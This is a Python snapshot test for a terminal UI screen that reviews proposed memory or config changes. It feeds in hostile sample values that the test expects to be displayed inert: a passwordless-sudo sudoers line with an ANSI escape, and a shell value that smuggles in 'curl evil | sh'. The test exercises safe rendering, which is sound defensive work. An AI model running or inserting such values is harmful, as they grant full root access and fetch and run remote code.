"""Snapshot of the memory-proposal screen (hostile values shown inert)."""

from __future__ import annotations

from typing import Any

from textual.app import App

from annactl.interactive.tui.screens.memory import MemoryScreen
from annactl.planning.memory import review_patch

from .tuiwait import ready


class _Host(App[None]):
    CSS_PATH = "../../annactl/interactive/tui/anna.tcss"

    def on_mount(self) -> None:
        review = review_patch({"editor": "helix", "wallpaper_dir": "~/Pictures/walls",
                               "sudoers": "\x1b[31mALL=(ALL) NOPASSWD: ALL",
                               "shell": "zsh; curl evil | sh"}, {}, "v1")
        self.push_screen(MemoryScreen(review))


def test_snapshot_memory(snap_compare: Any) -> None:
    async def run_before(pilot: Any) -> None:
        await ready(pilot, MemoryScreen, focus="cancel")

    assert snap_compare(_Host(), run_before=run_before, terminal_size=(100, 30))
